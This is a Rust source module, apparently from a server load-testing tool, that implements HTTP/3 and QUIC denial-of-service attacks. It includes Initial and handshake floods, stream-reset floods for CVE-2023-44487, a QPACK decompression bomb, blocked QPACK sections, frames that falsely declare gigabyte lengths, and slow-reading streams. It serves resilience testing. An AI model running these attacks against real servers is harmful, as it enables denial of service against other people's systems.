//! What HTTP/3 and QUIC are known to be attacked with: a unit that is said over and over on a connection, or whole connections.
//!
//! QUIC is quinn's machine, as in the load generator; what it would not say is made of bytes here.

pub(super) mod initials;
pub(super) mod seats;

use std::io;
use std::time::Duration;

use self::seats::Speaker;
use super::mischief::{Attack, FLOOD, How};
use crate::load::h3::message::{self, prefixed};

/// What an attack says on streams.
#[derive(Debug, Clone, Copy)]
pub(super) struct Streams {
    /// Bytes of an answer that are taken before they are read.
    pub(super) window: u32,
    /// The nth unit of a connection.
    pub(super) unit: fn(&mut Speaker<'_>, u32) -> io::Result<()>,
}

const fn streams(unit: fn(&mut Speaker<'_>, u32) -> io::Result<()>) -> How {
    How::Streams(Streams { window: 1 << 20, unit })
}

pub(super) const ATTACKS: &[Attack] = &[
    // 10,000 a second, each of which could become a connection.
    Attack { name: "initials", connections: 512, units: 50, how: How::Initials, ..FLOOD },
    Attack { name: "handshakes", connections: 16, units: 1, how: How::Handshakes, ..FLOOD },
    // CVE-2023-44487.
    Attack {
        name: "stream-resets",
        how: streams(|speaker, _| give_up(speaker, |speaker, stream| speaker.reset_soon(stream))),
        ..FLOOD
    },
    Attack {
        name: "stop-sending",
        how: streams(|speaker, _| give_up(speaker, |speaker, stream| speaker.stop_soon(stream))),
        ..FLOOD
    },
    // CVE-2016-6581 and its like: an entry of 3,900 bytes is said 500 times by one byte each.
    Attack { name: "qpack-bomb", units: 1, how: streams(bomb), ..FLOOD },
    // Sections that wait for an entry which never comes, as long as they may be; each connection is cut off by the one beyond what is allowed.
    Attack { name: "qpack-blocked", units: 1, how: streams(|speaker, _| speaker.ask(&blocked())), ..FLOOD },
    Attack { name: "declared-lengths", units: 1, how: streams(lengths), ..FLOOD },
    // A thousand answers of a MiB, of which each is taken by a hundred bytes now and then. As with HTTP/2's slow readers, the origin has to be done first.
    Attack {
        name: "tiny-windows",
        connections: 10,
        head_start: Duration::from_secs(3),
        units: 1,
        how: How::Streams(Streams { window: 600, unit: sip }),
    },
];

fn give_up(speaker: &mut Speaker<'_>, how: fn(&mut Speaker<'_>, quinn_proto::StreamId)) -> io::Result<()> {
    let request = message::request(&speaker.authority(), "/100");
    if let Some(stream) = speaker.begin(&request)? {
        how(speaker, stream);
    }
    Ok(())
}

const ENCODER: u8 = 2;
/// Of the table that we insert to (RFC 9204 §4.3.1).
const CAPACITY: usize = 4_096;

/// A HEADERS frame around a section that needs the table's first entry: of 128 that there may be, so it is said as 2 (RFC 9204 §4.5.1.1).
fn needing_an_entry(fields: &[u8]) -> Vec<u8> {
    message::headers(&[&[2, 0], fields].concat())
}

fn asking(speaker: &Speaker<'_>) -> Vec<u8> {
    message::fields(&speaker.authority(), "/100")
}

fn bomb(speaker: &mut Speaker<'_>, nth: u32) -> io::Result<()> {
    if nth == 0 {
        let mut words = vec![ENCODER];
        prefixed(&mut words, 0x20, 0x1f, CAPACITY);
        prefixed(&mut words, 0x40, 0x1f, 3);
        words.extend_from_slice(b"x-a");
        prefixed(&mut words, 0, 0x7f, 3_900);
        words.extend_from_slice(&[b'x'; 3_900]);
        speaker.one_way(&words)?;
    }
    let fields = [&asking(speaker)[..], &[0x80; 500]].concat();
    speaker.ask(&needing_an_entry(&fields))
}

fn blocked() -> Vec<u8> {
    let mut fields = Vec::new();
    prefixed(&mut fields, 0x20, 0x07, 3);
    fields.extend_from_slice(b"x-a");
    prefixed(&mut fields, 0, 0x7f, 15_000);
    fields.extend_from_slice(&[b'b'; 15_000]);
    needing_an_entry(&fields)
}

/// Frames that say they are a GiB long; at last a name of which the table's stream says so, which no server can bear.
fn lengths(speaker: &mut Speaker<'_>, nth: u32) -> io::Result<()> {
    if nth % 16 == 15 {
        let mut words = vec![ENCODER];
        prefixed(&mut words, 0x40, 0x1f, 1 << 30);
        words.extend_from_slice(&[b'x'; 100]);
        return speaker.one_way(&words);
    }
    // HEADERS, and a length of four bytes (RFC 9000 §16).
    let head = [&[1, 0xbf, 0xff, 0xff, 0xff, 0, 0][..], &asking(speaker)].concat();
    speaker.begin(&head).map(drop)
}

fn sip(speaker: &mut Speaker<'_>, nth: u32) -> io::Result<()> {
    if nth > 0 {
        speaker.sip(nth as usize, 100);
        return Ok(());
    }
    let request = message::request(&speaker.authority(), "/1m");
    (0..100).try_for_each(|_| speaker.ask(&request))
}
